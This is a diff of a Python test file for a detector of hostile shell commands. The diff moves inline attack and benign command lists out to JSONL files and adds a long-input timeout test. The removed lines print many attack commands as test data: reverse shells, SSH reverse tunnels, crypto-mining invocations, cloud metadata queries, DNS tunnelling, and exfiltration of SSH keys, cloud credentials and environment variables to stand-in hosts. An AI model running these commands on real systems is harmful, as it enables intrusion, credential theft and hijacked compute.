@@ -16,140 +16,18 @@ from ray_guard.attribution.detect import commands, payloads, sigma
 from ray_guard.attribution.detect.shell import commands as split
 from ray_guard.attribution.detect.ssh import tunnels_back
 
-ATTACKS = [
-    ("reverse_tunnel", "ssh -fNR 2222:localhost:22 u@198.51.100.7"),
-    ("reverse_tunnel", 'ssh -N -f -o RemoteForward="2222 localhost:22" u@h'),
-    ("reverse_tunnel", 'ssh -o "RemoteForward=9000 127.0.0.1:22" -p 443 h'),
-    ("reverse_tunnel", "ssh -fNTR 0.0.0.0:8022:127.0.0.1:22 -i k u@h"),
-    ("reverse_tunnel", "ssh -w 0:0 root@h"),
-    ("reverse_tunnel", "autossh -M 0 -f -N -R 2222:localhost:22 h"),
-    ("reverse_tunnel", "nohup setsid s''sh -NR 1:localhost:2 h &"),
-    ("reverse_tunnel", "cp /usr/bin/ssh /tmp/x; /tmp/x -fNR 2222:localhost:22 u@h"),
-    ("reverse_tunnel", "./chisel client http://h:8080 R:socks"),
-    ("reverse_tunnel", "/tmp/.a client https://h:443 R:2222:localhost:22"),
-    ("reverse_tunnel", "frpc -c frpc.toml"),
-    ("reverse_tunnel", "ngrok tcp 22"),
-    ("reverse_tunnel", "cloudflared tunnel --url http://localhost:8000"),
-    ("reverse_tunnel", "bore local 8000 --to bore.pub"),
-    ("reverse_tunnel", "gost -L=:8080 -F=relay+tls://h:443"),
-    ("reverse_tunnel", "npx localtunnel --port 8000"),
-    ("reverse_tunnel", "printf 'Host x\\\\n  RemoteForward 2222 localhost:22\\\\n' > ~/.ssh/config && ssh -N x"),
-    ("reverse_tunnel", 'bash -c "$(echo c3NoIC1mTlIgMjIyMjpsb2NhbGhvc3Q6MjIgdUBo | base64 -d)"'),
-    ("reverse_tunnel", "echo c3NoIC1mTlIgMjIyMjpsb2NhbGhvc3Q6MjIgdUBo | base64 -d | sh"),
-    ("reverse_tunnel", "python -c \"import paramiko; t.request_port_forward('',2222)\""),
-    ("mining", "./xmrig -o pool.supportxmr.com:3333 -u 4ABC -k"),
-    ("mining", "./kworker --donate-level 1 -o h:3333 -u w"),
-    ("mining", "./python3-helper -o stratum+tcp://h:4444 -u wallet.rig"),
-    ("mining", "t-rex -a kawpow -o stratum+tcp://h:1 -u w"),
-    ("mining", 'echo \'{"id":1,"method":"mining.subscribe","params":[]}\' | nc h 3333'),
-    ("probing", "nmap -sS 10.0.0.0/24"),
-    ("probing", "for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done"),
-    ("probing", "for p in 22 80 443; do (echo > /dev/tcp/10.0.0.5/$p) && echo open; done"),
-    ("probing", "nc -zv 10.0.0.5 1-1024"),
-    (
-        "probing",
-        "python3 -c \"\nimport socket\nfor i in range(1,255):\n    s=socket.socket(); s.settimeout(.1)\n    if s.connect_ex((f'10.0.0.{i}',22))==0: print(i)\"",  # noqa: E501 - as it is typed
-    ),
-    ("probing", "seq 1 254 | xargs -P50 -I{} nc -zv -w1 192.168.1.{} 22"),
-    ("metadata", "curl http://169.254.169.254/latest/meta-data/iam/"),
-    ("metadata", "curl http://2852039166/latest/"),
-    ("metadata", "wget -qO- http://0xA9FEA9FE/"),
-    ("metadata", "curl 'http://[::ffff:169.254.169.254]/'"),
-    ("metadata", "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/"),
-    ("metadata", "python -c \"import requests; requests.get('http://100.100.100.200/latest/meta-data')\""),
-    ("dns_tunnel", "iodine -f -P x t.example.org"),
-    ("dns_tunnel", "for c in $(base64 -w40 secret); do dig $c.x.example.org; done"),
-    ("dns_tunnel", "dig $(whoami).x.example.org"),
-    ("dns_tunnel", "nslookup aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCBtZXNzYWdl.x.example.org"),
-    ("exfiltration", "curl -F file=@/root/.ssh/id_rsa https://h/up"),
-    ("exfiltration", "tar cz . | curl -T - https://transfer.sh/x"),
-    ("exfiltration", "cat ~/.aws/credentials | nc h 9000"),
-    ("exfiltration", "env | curl -d @- https://webhook.site/abc"),
-    ("exfiltration", "scp ~/.ssh/id_ed25519 u@h:/tmp"),
-    ("exfiltration", "tar czf - /workspace | ssh u@h 'cat > x.tgz'"),
-    ("exfiltration", "nc h 9000 < ~/.ssh/id_rsa"),
-    ("reverse_shell", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"),
-    ("reverse_shell", "nc -e /bin/sh h 4444"),
-    ("reverse_shell", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc h 4444 > /tmp/f"),
-    (
-        "reverse_shell",
-        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("h",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',  # noqa: E501 - as it is typed
-    ),
-    (
-        "reverse_shell",
-        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");\'',  # noqa: E501 - as it is typed
-    ),
-    ("reverse_shell", "socat TCP:h:4444 EXEC:'bash -li',pty,stderr"),
-    ("reverse_shell", "exec 5<>/dev/tcp/h/443; cat <&5 | while read l; do $l 2>&5 >&5; done"),
-]
-ORDINARY = [
-    "pip install -r requirements.txt",
-    "git clone https://github.com/x/y.git && cd y && make -j4",
-    "curl -sSL https://example.org/install.sh | bash",
-    'curl -X POST http://localhost:8000/v1/completions -d \'{"prompt": "hi"}\'',
-    "curl -X POST https://api.example.org/x -H 'content-type: application/json' -d '{\"a\": 1}'",
-    "ssh git@github.com",
-    "ssh -T git@github.com",
-    "ssh -L 8080:localhost:80 host",
-    "ssh -i key -p 2222 user@host 'ls -la'",
-    "scp results.csv user@host:/data/",
-    "rsync -av src/ dst/",
-    'grep -rn "RemoteForward" /etc/ssh',
-    "grep -R 3333:x:80 .",
-    "nc -z localhost 5432",
-    "nc -zv db 5432",
-    "until nc -z localhost 8080; do sleep 1; done",
-    "for i in 1 2 3; do curl -s http://localhost:8000/health && break; sleep 1; done",
-    "for f in *.py; do python -m py_compile $f; done",
-    "nmap --version",
-    "man nmap",
-    "pip install python-nmap",
-    "apt-get install -y nmap netcat",
-    "cat /etc/passwd",
-    "cat .env",
-    "tar czf backup.tgz src",
-    "python -c \"import socket; s=socket.socket(); s.connect(('localhost',80))\"",
-    "python -m http.server 8000",
-    "docker run -p 8080:80 nginx",
-    'echo "ssh -R 2222:localhost:22 host" >> notes.md',
-    "rg 'mining.subscribe' src/",
-    "dig example.org",
-    "dig +short example.org MX",
-    "nslookup example.org",
-    "ping -c 3 example.org",
-    "openssl s_client -connect example.org:443 </dev/null",
-    "xargs -I{} curl -sO https://example.org/{} < urls.txt",
-    "env | sort",
-    "export PATH=$PATH:/opt/bin",
-    "aws s3 ls",
-    "wget https://example.org/data.tar.gz",
-    "curl -F 'file=@report.pdf' https://api.example.org/upload",
-    "find . -name '*.py' | xargs wc -l",
-    "sed -n '1,10p' /proc/self/environ",
-    "python train.py --coin-flip 0.5 -o out -u user",
-    "./solve -o out.txt --url http://localhost:8888",
-    "git push origin main",
-    "ssh-keygen -t ed25519 -f id_ed25519 -N ''",
-    "cat ~/.ssh/id_rsa.pub",
-    "kubectl get pods -o wide",
-    "timeout 30 pytest -x",
-    "node -e \"require('net').connect(80,'example.org')\"",
-    "python -c 'import subprocess'",
-    "for port in 3000 8000; do curl -s localhost:$port; done",
-    "for host in web1 web2; do ssh $host uptime; done",
-    'while read url; do curl -sO "$url"; done < urls.txt',
-    "socat TCP-LISTEN:8080,fork TCP:localhost:80",
-    "python -c \"for i in range(10): print('10.0.0.%d' % i)\"",
-    "echo aGVsbG8gd29ybGQ= | base64 -d",
-    "go build -o bin/app ./cmd/app",
-]
+_COMMANDS = Path(__file__).parent / "commands"
 
 
-@pytest.mark.parametrize(("kind", "command"), ATTACKS)
-def test_disguises_are_found(kind: str, command: str) -> None:
-    found = commands.judge(command)
+def _lines(name: str) -> list[dict[str, str]]:
+    return [json.loads(line) for line in (_COMMANDS / name).read_text().splitlines()]
+
+
+@pytest.mark.parametrize("line", _lines("attacks.jsonl"), ids=lambda line: line["command"][:60])
+def test_disguises_are_found(line: dict[str, str]) -> None:
+    found = commands.judge(line["command"])
     assert found is not None
-    assert found.kind.value == kind
+    assert found.kind.value == line["kind"]
 
 
 @pytest.mark.parametrize(
@@ -160,9 +38,20 @@ def test_wrappers_hide_nothing(wrapped: str) -> None:
         assert commands.judge(wrapped.format(command)) is not None, command
 
 
-@pytest.mark.parametrize("command", ORDINARY)
-def test_ordinary_commands_are_left_alone(command: str) -> None:
-    assert commands.judge(command) is None
+@pytest.mark.parametrize("line", _lines("ordinary.jsonl"), ids=lambda line: line["command"][:60])
+def test_ordinary_commands_are_left_alone(line: dict[str, str]) -> None:
+    assert commands.judge(line["command"]) is None
+
+
+@pytest.mark.timeout(30)
+@pytest.mark.parametrize(
+    "part",
+    ["a", "a=b;", "$(", "'", "for i in x; do ", "a.b.", "1.2.", "curl $( ", "<(", "eval ", "\\x41", "QUJD", "a://"],
+)
+def test_no_length_stops_it(part: str) -> None:
+    # A tool writes its command lines itself: none may keep who judges them busy.
+    assert commands.judge(part * (60_000 // len(part))) is None
+    assert payloads.judge(part.encode() * 10_000, "sent") is None
 
 
 @given(st.text(max_size=400))
